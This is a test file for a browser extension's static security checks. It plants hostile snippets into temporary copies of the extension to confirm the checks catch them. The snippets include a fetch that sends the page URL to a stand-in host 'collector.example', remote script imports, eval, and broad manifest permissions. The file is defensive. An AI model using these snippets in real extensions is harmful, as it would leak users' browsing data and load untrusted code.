// Static checks of the built extension (dist/chromium, and dist/firefox when it is built): nothing in
// it can reach the network or run code from elsewhere, and the manifest asks for no more than it
// needs (tests/e2e/static-checks.mjs). No browser needed. The checks are also run on copies with
// something bad planted, each of which must be caught.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import vm from 'node:vm';
import { after, describe, it } from 'node:test';

import { ROOT } from './server.mjs';
import { checkExtensionDir, checkWasmImports, contentScriptFiles, hits } from './static-checks.mjs';

const DIST = path.resolve(process.env.HIRECHECK_DIST ?? path.join(ROOT, 'dist', 'chromium'));
const FIREFOX = path.resolve(process.env.HIRECHECK_DIST_FIREFOX ?? path.join(ROOT, 'dist', 'firefox'));
const temps = [];
after(() => { for (const d of temps) fs.rmSync(d, { recursive: true, force: true }); });

/** A copy of `dir` in a temporary directory. */
function copyOf(dir) {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hirecheck-static-'));
  temps.push(tmp);
  fs.cpSync(dir, tmp, { recursive: true });
  return tmp;
}

const edit = (dir, file, f) => {
  const p = path.join(dir, file);
  fs.writeFileSync(p, f(fs.readFileSync(p, 'utf8')));
};

/**
 * A minimal wasm module whose only imports are functions named `names` (from module "wbg"): the
 * binary format's magic, a type section with one `() -> ()` type, and an import section.
 */
function wasmImporting(names) {
  const leb = (n) => { const out = []; do { let b = n & 0x7f; n >>>= 7; if (n) b |= 0x80; out.push(b); } while (n); return out; };
  const str = (s) => { const b = [...Buffer.from(s, 'utf8')]; return [...leb(b.length), ...b]; };
  const section = (id, body) => [id, ...leb(body.length), ...body];
  const types = section(1, [1, 0x60, 0, 0]);
  const imports = section(2, [...leb(names.length), ...names.flatMap((n) => [...str('wbg'), ...str(n), 0x00, 0x00])]);
  return Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, ...types, ...imports]);
}

/** Every storage write in the files that run in the content-script world (the manifest's content scripts and what they import), as "file:line: text". */
function contentScriptWrites(dir) {
  return contentScriptFiles(dir).flatMap((f) => {
    const text = fs.readFileSync(path.join(dir, f), 'utf8');
    const writes = hits(text, /\bstorage\s*\.\s*(local|sync|session|managed)\s*\.\s*(set|remove|clear)\b/g);
    return writes.map((h) => `${f}:${h.line}: ${h.text}`);
  });
}

describe('static checks of the built extension', () => {
  it('dist/chromium is built', () => {
    for (const f of ['manifest.json', 'wasm/hirecheck.js', 'wasm/hirecheck-content.js', 'wasm/sites.js']) {
      assert.ok(fs.existsSync(path.join(DIST, f)), `no ${path.join(DIST, f)}: run 'make build'`);
    }
    assert.ok(fs.readdirSync(path.join(DIST, 'wasm')).some((f) => f.endsWith('.wasm')), `no wasm module in ${DIST}/wasm: run 'make build'`);
  });

  for (const [label, dir] of [['dist/chromium', DIST], ['dist/firefox', FIREFOX]]) {
    it(`${label}: no network API, no code from elsewhere, the wasm loaded from the package, a minimal manifest`, async (t) => {
      if (dir === FIREFOX && !fs.existsSync(path.join(dir, 'manifest.json'))) {
        t.diagnostic(`${label} is not built: nothing to check`);
        return;
      }
      const { problems, counts } = await checkExtensionDir(dir);
      t.diagnostic(`${counts.scanned} scripts and pages scanned, ${counts.initCalls} call(s) of the wasm glue's init, ${counts.imports} imports of ${counts.modules} wasm module(s)`);
      assert.deepEqual(problems, []);
    });
  }

  it('only the extension\'s own pages write what the client keeps (the content scripts only read)', () => {
    // The checklist answers are the client's; a page could drive the content scripts, never the popup.
    const files = contentScriptFiles(DIST);
    for (const f of ['wasm/hirecheck-content.js', 'content/loader.js', 'content/main.js']) {
      assert.ok(files.includes(f), `${f} is not among the content scripts and the modules they import: ${files}`);
    }
    assert.deepEqual(contentScriptWrites(DIST), []);
    // content/main.js is built from content.js and its helpers (scripts/build-extension.sh), which are
    // not packaged on their own unless an extension page loads them too.
    const text = fs.readFileSync(path.join(DIST, 'content', 'main.js'), 'utf8');
    assert.ok(text.includes(fs.readFileSync(path.join(ROOT, 'extension', 'content.js'), 'utf8')), 'content/main.js does not hold content.js');
    assert.ok(!fs.existsSync(path.join(DIST, 'content.js')), 'content.js is packaged twice: on its own and in content/main.js');
    assert.ok(/storage\s*\.\s*local\s*\.\s*get\b/.test(text), 'content.js reads the checklist answers');
  });

  it('a storage write planted in any content script the manifest lists, or any module they import, is caught', () => {
    const dir = copyOf(DIST);
    const files = contentScriptFiles(dir);
    for (const f of files) edit(dir, f, (s) => `${s}\nchrome.storage.local.set({ planted: 1 });\n`);
    const caught = new Set(contentScriptWrites(dir).map((w) => w.split(':')[0]));
    assert.deepEqual([...caught].sort(), [...files].sort());
  });
});

describe('the static checks catch what they are for', () => {
  // Each plant: [file, how to change it, a pattern the problem list must match]. All go into one copy;
  // each leaves its own message.
  const PLANTS = [
    ['content/main.js', (s) => `${s}\nfetch('https://collector.example/x?d=' + location.href);\n`, /^content\/main\.js:\d+: network API fetch: fetch\('https:\/\/collector/],
    ['background.js', (s) => `${s}\nconst x = new XMLHttpRequest();\n`, /^background\.js:\d+: network API XMLHttpRequest/],
    ['popup.js', (s) => `${s}\nnavigator.sendBeacon('/b', 'x'); new WebSocket('wss://a.example'); new EventSource('/e');\n`, /^popup\.js:\d+: network API (sendBeacon|WebSocket|EventSource)/],
    ['background.js', (s) => `${s}\nimportScripts('https://cdn.example/lib.js');\n`, /^background\.js:\d+: importScripts of something other than a packaged file/],
    ['content/main.js', (s) => `${s}\nimport('https://cdn.example/m.js');\n`, /^content\/main\.js:\d+: import of something other than a packaged file/],
    ['content/main.js', (s) => `${s}import 'https://cdn.example/m.js';\nimport { x } from "//cdn.example/x.js";\n`, /^content\/main\.js:\d+: import from something other than a packaged file: import 'https:/],
    ['popup.js', (s) => `${s}\nnew Worker(URL.createObjectURL(new Blob(['x'])));\n`, /^popup\.js:\d+: new Worker of something other than a packaged file/],
    ['popup.js', (s) => `${s}\neval('1+1'); const f = new Function('return 1');\n`, /^popup\.js:\d+: code from a string \((eval|new Function)/],
    ['popup.html', (s) => s.replace('</head>', '<script src="https://cdn.example/x.js"></script></head>'), /^popup\.html:\d+: remote (script|load)/],
  ];

  it('a copy with planted network code, remote code and eval fails, each in its own words', async (t) => {
    const dir = copyOf(DIST);
    for (const [file, f] of PLANTS) edit(dir, file, f);
    const { problems } = await checkExtensionDir(dir);
    t.diagnostic(`${problems.length} problems:\n  ${problems.join('\n  ')}`);
    for (const [file, , re] of PLANTS) assert.ok(problems.some((p) => re.test(p)), `not caught in ${file}: ${re}`);
  });

  it('a second fetch in either glue, or the wasm loaded from elsewhere, fails', async () => {
    const dir = copyOf(DIST);
    edit(dir, 'wasm/hirecheck.js', (s) => `${s}\nexport function leak(u) { return fetch(u); }\n`);
    edit(dir, 'wasm/hirecheck-content.js', (s) => `${s}\nfunction leak(u) { return fetch(u); }\n`);
    // The content scripts' loader (the classic glue's caller) and the options page (the module glue's).
    for (const file of ['content/loader.js', 'options.js']) {
      edit(dir, file, (s) => {
        const out = s.replace(/module_or_path:\s*chrome\.runtime\.getURL\((`|')[^`']*\1\)/, "module_or_path: 'https://cdn.example/hirecheck_bg.wasm'");
        assert.notEqual(out, s, `${file} no longer passes { module_or_path: chrome.runtime.getURL(...) }: update this test`);
        return out;
      });
    }
    const { problems } = await checkExtensionDir(dir);
    for (const glue of ['hirecheck', 'hirecheck-content']) {
      assert.ok(problems.some((p) => new RegExp(`^wasm/${glue}\\.js: expected exactly one fetch.*found 2`).test(p)), problems.join('\n'));
    }
    for (const file of ['content/loader', 'options']) {
      assert.ok(problems.some((p) => new RegExp(`^${file}\\.js:\\d+: the wasm is loaded from something other than runtime\\.getURL`).test(p)), problems.join('\n'));
    }
  });

  it('a manifest with network-capable permissions or host access fails', async () => {
    const dir = copyOf(DIST);
    edit(dir, 'manifest.json', (s) => {
      const m = JSON.parse(s);
      m.permissions = [...(m.permissions ?? []), 'webRequest', 'declarativeNetRequestWithHostAccess', 'proxy', 'tabs'];
      m.host_permissions = ['https://*.example.com/*'];
      m.optional_host_permissions = ['<all_urls>'];
      m.update_url = 'https://updates.example/x.xml';
      return JSON.stringify(m);
    });
    const { problems } = await checkExtensionDir(dir);
    for (const re of [/"webRequest" \(it can see/, /"declarativeNetRequestWithHostAccess" \(it can see/, /"proxy" \(it can see/, /"tabs"; allowed: storage, offscreen/,
      /host_permissions \["https:\/\/\*\.example\.com\/\*"\]/, /optional_host_permissions/, /<all_urls>/, /update_url/]) {
      assert.ok(problems.some((p) => re.test(p)), `not caught: ${re}\n${problems.join('\n')}`);
    }
  });

  it('a wasm module importing a network API fails; ordinary wasm-bindgen imports pass', async () => {
    const bad = ['__wbg_fetch_1a2b3c', '__wbg_open_4d5e6f', '__wbg_new_with_str_and_init_Request_77', '__wbg_send_XMLHttpRequest_88', '__wbg_sendBeacon_99'];
    const good = ['__wbg_new_227d7c05414eb861', '__wbg_querySelector_49877e2a9e3f670b', '__wbindgen_init_externref_table'];
    const mod = await WebAssembly.compile(wasmImporting([...bad, ...good]));
    const problems = checkWasmImports(WebAssembly.Module.imports(mod));
    assert.deepEqual(problems.map((p) => p.replace(/^the wasm imports wbg\.(\S+),.*$/, '$1')), bad);
  });
});

describe("texts.js writes the wasm's sentences (src/texts/say.rs) as the CLI does", () => {
  // The built texts.js, run in a sandbox as the browser runs it: it sets globalThis.__hirecheckTexts.
  const load = () => {
    const sandbox = {};
    vm.runInNewContext(fs.readFileSync(path.join(DIST, 'texts.js'), 'utf8'), sandbox);
    return sandbox.__hirecheckTexts;
  };
  const SENTENCES = JSON.parse(fs.readFileSync(path.join(ROOT, 'src', 'texts', 'sentences.json'), 'utf8'));
  const MARK = '\u0001';
  const marked = (key, ...values) => MARK + JSON.stringify([key, ...values]);

  it('fills each blank with its value, in the language asked for; a value that is a sentence is written first', () => {
    const { say } = load();
    assert.equal(say(marked('checks-run', '7', '9'), 'en'), '7 of 9 checks could run.');
    assert.equal(say(marked('checks-run', '7', '9'), 'de'), '7 von 9 Prüfungen konnten laufen.');
    const nested = marked('summary-unknown', marked('could-not-read', '4', '17'), marked('checks-run', '2', '5'));
    assert.equal(say(nested, 'de'), 'Diese Seite ließ sich nicht gut lesen (4 von 17 Feldern), zu wenig für ein Urteil. 2 von 5 Prüfungen konnten laufen.');
    // Page text in a value stays as it is: no blank, replacement pattern or markup in it means anything.
    assert.equal(say(marked('memory-who', '{0} $& $1 <b>x</b>', 'k'), 'en'), '“{0} $& $1 <b>x</b>” (k)');
    assert.equal(say('plain text, not marked', 'en'), 'plain text, not marked');
  });

  it('every sentence of the table can be written in both languages, with every blank filled', () => {
    const { say } = load();
    for (const [key, langs] of Object.entries(SENTENCES)) {
      const blanks = new Set(langs.en.match(/\{\d\}/g) ?? []).size;
      const values = Array.from({ length: blanks }, (_, i) => `<v${i}>`);
      for (const lang of ['en', 'de']) {
        const out = say(marked(key, ...values), lang);
        assert.ok(!/\{\d\}/.test(out) && !out.includes(MARK), `${key} (${lang}): ${out}`);
        for (const v of values) assert.ok(out.includes(v), `${key} (${lang}) lacks ${v}: ${out}`);
      }
    }
  });

  it('a broken or unknown mark shows its text, never the mark, and join writes every string of a report', () => {
    const { say, join } = load();
    assert.equal(say(`${MARK}not json`, 'en'), 'not json');
    assert.equal(say(marked('no-such-sentence', 'a', 'b'), 'en'), 'a b');
    const report = {
      lang: 'de',
      risk: { summary: marked('checks-run', '1', '2'), findings: [{ rule: 'x', evidence: [marked('no-name'), 'plain'] }] },
      bids: [{ risk: { summary: marked('bids-none-read'), findings: [] } }],
      org_note: marked('org-vetted', 'upwork:~01'),
    };
    join(report);
    assert.equal(report.risk.summary, '1 von 2 Prüfungen konnten laufen.');
    assert.deepEqual(report.risk.findings[0].evidence, ['(ohne Namen)', 'plain']);
    assert.equal(report.bids[0].risk.summary, 'Auf dieser Seite ließen sich keine Angebote lesen.');
    assert.equal(report.org_note, 'Ihre Organisation hat diese Person geprüft: upwork:~01');
  });
});
